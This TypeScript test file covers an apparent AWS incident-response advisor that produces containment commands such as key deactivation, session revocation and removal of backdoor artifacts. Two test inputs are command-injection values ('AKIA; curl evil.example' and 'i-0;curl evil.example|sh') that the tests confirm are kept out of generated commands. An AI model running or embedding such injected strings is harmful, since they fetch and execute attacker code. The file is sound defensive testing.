import { describe, expect, it } from 'vitest';
import type { Artifact, TracedCredential } from '../../model/investigation.ts';
import { adviseContainment } from './advise.ts';
import { ACCOUNT, ALICE_KEY, investigation, MADE_KEY, nothingFound } from './fixture.ts';

const advise = (changes: Partial<typeof investigation>) =>
  adviseContainment({ ...investigation, ...changes });
const [seed, role] = investigation.credentials;
const session = (changes: Partial<TracedCredential>): TracedCredential => {
  if (role === undefined) throw new Error('the fixture has no session');
  return { ...role, ...changes };
};
const artifact = (changes: Partial<Artifact>): Artifact => {
  const [first] = investigation.artifacts;
  if (first === undefined) throw new Error('the fixture has no artifact');
  return { ...first, ...changes };
};
const only = { credentials: [], artifacts: [] };

describe('the order', () => {
  it('is issuers, then sessions, then ways back in, then what they may do', () => {
    expect(investigation.containment.map(({ how }) => how.slice(0, 60))).toEqual([
      `cordon contain ${ALICE_KEY}`,
      `cordon contain ${MADE_KEY} --level deny`,
      'aws iam put-role-policy --role-name admin-ci --policy-name AWSRevokeOlderSessions'.slice(0, 60),
      'set who may assume the role back to what it was, after savin',
      'aws iam detach-user-policy --user-name backup-svc --policy-a',
    ]);
  });

  it('has nothing against what only the owner did', () => {
    expect(nothingFound.containment).toEqual([]);
  });

  it('leaves out what has ended, and what is removed', () => {
    const credentials = investigation.credentials.map((one) => ({ ...one, state: 'ended' as const }));
    const artifacts = investigation.artifacts.map((one) => ({ ...one, state: 'removed' as const }));
    expect(advise({ credentials, artifacts })).toEqual([]);
  });
});

describe('a key', () => {
  it('says what its owner feels', () => {
    expect(investigation.containment[0]?.disrupts).toBe(
      "the owner's own use stops: 3 calls from 203.0.113.20 (Terraform/1), last 2026-01-19 03:00:00Z; of some calls it is unclear whose they are",
    );
  });

  it('of root is left to a person: nothing in the account denies root', () => {
    const credentials = seed === undefined ? [] : [{ ...seed, arn: `arn:aws:iam::${ACCOUNT}:root` }];
    expect(advise({ ...only, credentials })[0]?.how).toContain('docs/playbooks/root.md');
  });

  it('is first to be settled where it is unclear who uses it', () => {
    const credentials = seed === undefined ? [] : [{ ...seed, actor: 'unclear' as const }];
    expect(advise({ ...only, credentials })[0]?.why).toContain('--pin');
  });

  it('whose id is none stands in no command', () => {
    const accessKeyId = 'AKIA; curl evil.example';
    const credentials = seed === undefined ? [] : [{ ...seed, id: accessKeyId, accessKeyId }];
    expect(advise({ ...only, credentials })[0]?.how).toMatch(/^deactivate it by hand/);
  });
});

describe('a user', () => {
  const named = { id: 'user/nobody@', kind: 'user' as const };

  it('of whom no record has anything is denied nothing: perhaps there is none of that name', () => {
    const credentials =
      seed === undefined ? [] : [seed].map(({ arn: _, accessKeyId: _id, ...one }) => ({ ...one, ...named }));
    expect(credentials).toHaveLength(1);
    expect(advise({ ...only, credentials })).toEqual([]);
  });

  it('who was made, and is denied everything with his key, is one step', () => {
    const whats = advise({
      credentials: [
        ...investigation.credentials,
        session({ id: 'AIDAI44QH8DHBEXAMPLE', kind: 'user', arn: `arn:aws:iam::${ACCOUNT}:user/backup-svc` }),
      ],
    }).map(({ what }) => what);
    expect(whats.filter((what) => what.includes('deny everything to user backup-svc'))).toHaveLength(1);
  });
});

it('of instances and functions of which no session was seen there is one step, which says what is gone', () => {
  const [gone, other] = ['i-0abc', 'lambda/fn@fn-role'].map((id) => {
    const { arn: _, expires: _end, ...one } = session({ id, kind: 'workload', state: 'unknown' });
    return one;
  });
  if (gone === undefined || other === undefined) throw new Error('there are two');
  const [first, ...more] = advise({ ...only, credentials: [gone, other] });
  expect(more).toEqual([]);
  expect(first?.what).toBe('end what sessions instance i-0abc, function fn have been given');
  expect(first?.why).not.toContain('removed');
  const artifacts = [artifact({ type: 'ec2-instance', id: 'i-0abc', state: 'removed' })];
  expect(advise({ ...only, credentials: [gone], artifacts })[0]?.why).toMatch(/^it was removed/);
});

describe('sessions', () => {
  it('are ended up to the second after the newest was issued: "less than" spares that second itself', () => {
    const credentials = [
      session({ id: 'a', createdAt: '2026-01-20T02:09:00Z' }),
      session({ id: 'b', createdAt: '2026-01-20T02:40:59Z' }),
    ];
    const [first, ...others] = advise({ ...only, credentials });
    expect(others).toEqual([]);
    expect(first?.how).toContain('"aws:TokenIssueTime":"2026-01-20T02:41:00Z"');
    expect(first?.undo).toBe(
      'aws iam delete-role-policy --role-name admin-ci --policy-name AWSRevokeOlderSessions',
    );
  });

  it('of a role that others may assume since are ended as of the question', () => {
    const arn = `arn:aws:iam::${ACCOUNT}:role/nightly-export`;
    const backdoored = session({ kind: 'role', arn, createdAt: '2026-01-20T02:11:05Z' });
    expect(advise({ ...only, credentials: [backdoored] })[0]?.how).toContain('"2026-01-20T04:30:01Z"');
  });

  it('without a time of issue are ended as of the question', () => {
    const { createdAt: _, ...timeless } = session({});
    expect(advise({ ...only, credentials: [timeless] })[0]?.how).toContain('"2026-01-20T04:30:01Z"');
  });

  it.each([
    ['AWSServiceRoleForSupport', /nobody put a policy on a service-linked role/],
    ['AWSReservedSSO_Admin_1a2b', /identity-center/],
  ])('of %s are not ended by a policy', (name, how) => {
    const credentials = [session({ arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${name}/x` })];
    expect(advise({ ...only, credentials })[0]?.how).toMatch(how);
  });

  it('of a workload come back while somebody is inside it', () => {
    const arn = `arn:aws:sts::${ACCOUNT}:assumed-role/web/i-0abc`;
    const [first] = advise({ ...only, credentials: [session({ kind: 'workload', arn })] });
    expect(first?.why).toContain('docs/playbooks/workload-role.md');
  });

  it("of a user whose key is contained are ended by that: the deny of the user's sessions is its part", () => {
    const arn = `arn:aws:iam::${ACCOUNT}:user/alice`;
    const own = session({ kind: 'console-session', arn });
    expect(advise({ ...only, credentials: seed === undefined ? [] : [seed, own] })).toHaveLength(1);
    expect(advise({ ...only, credentials: [own] })[0]?.how).toBe(
      'aws iam attach-user-policy --user-name alice --policy-arn arn:aws:iam::aws:policy/AWSDenyAll',
    );
  });

  it('of a federation go with the user who made them', () => {
    const federated = session({ arn: `arn:aws:sts::${ACCOUNT}:federated-user/bob` });
    const advice = advise({ ...only, credentials: seed === undefined ? [] : [seed, federated] });
    expect(advice[1]?.how).toBe(`cordon contain ${ALICE_KEY} --level deny`);
  });
});

describe('what was left behind', () => {
  it.each([
    [
      { type: 'iam-user', arn: `arn:aws:iam::${ACCOUNT}:user/mallory`, id: 'mallory' },
      'aws iam attach-user-policy --user-name mallory --policy-arn arn:aws:iam::aws:policy/AWSDenyAll',
    ],
    [
      { type: 'ssh-key', arn: `arn:aws:iam::${ACCOUNT}:user/bob#ssh/APKA1`, id: 'APKA1' },
      'aws iam update-ssh-public-key --user-name bob --ssh-public-key-id APKA1 --status Inactive',
    ],
    [
      { type: 'inline-policy', arn: `arn:aws:iam::${ACCOUNT}:role/ci`, id: 'role/ci/p' },
      'aws iam delete-role-policy --role-name ci --policy-name p',
    ],
    [
      { type: 'group-membership', arn: `arn:aws:iam::${ACCOUNT}:group/admins`, id: 'admins/bob' },
      'aws iam remove-user-from-group --group-name admins --user-name bob',
    ],
    [
      {
        type: 'lambda',
        arn: `arn:aws:lambda:eu-west-2:${ACCOUNT}:function:fn`,
        id: 'fn',
        region: 'eu-west-2',
      },
      'aws lambda put-function-concurrency --function-name fn --reserved-concurrent-executions 0 --region eu-west-2',
    ],
    [
      { type: 'ec2-instance', id: 'i-0abc', region: 'eu-west-2' },
      'aws ec2 stop-instances --instance-ids i-0abc --region eu-west-2',
    ],
    [
      { type: 'policy-attachment', id: 'user/bob/arn:aws:iam::aws:policy/ReadOnlyAccess', arn: '' },
      'aws iam detach-user-policy --user-name bob --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess',
    ],
    [
      { type: 'snapshot-share', id: 'snap-0abc/999988887777', region: 'eu-west-2' },
      'aws ec2 reset-snapshot-attribute --snapshot-id snap-0abc --attribute createVolumePermission --region eu-west-2',
    ],
    [
      { type: 'trail-logging', id: 'org-trail', region: 'eu-west-2' },
      'aws cloudtrail start-logging --name org-trail --region eu-west-2',
    ],
    [{ type: 'login-profile', id: 'bob', arn: '' }, 'aws iam delete-login-profile --user-name bob'],
  ] satisfies [Partial<Artifact>, string][])('has a command: %j', (changes, how) => {
    expect(advise({ ...only, artifacts: [artifact(changes)] })[0]?.how).toBe(how);
  });

  it('has words where a name would need quotes', () => {
    const hostile = {
      type: 'ec2-instance',
      id: 'i-0;curl evil.example|sh',
      containment: 'stop the instance',
    };
    expect(advise({ ...only, artifacts: [artifact(hostile)] })[0]?.how).toBe('stop the instance');
  });

  it('of one name in another account is not taken for contained', () => {
    const elsewhere = artifact({ account: '444455556666', arn: 'arn:aws:iam::444455556666:user/backup-svc' });
    const advice = advise({ artifacts: [...investigation.artifacts, elsewhere] });
    expect(advice.map(({ what }) => what)).toContain('contain iam-user backup-svc (444455556666, us-east-1)');
  });
});
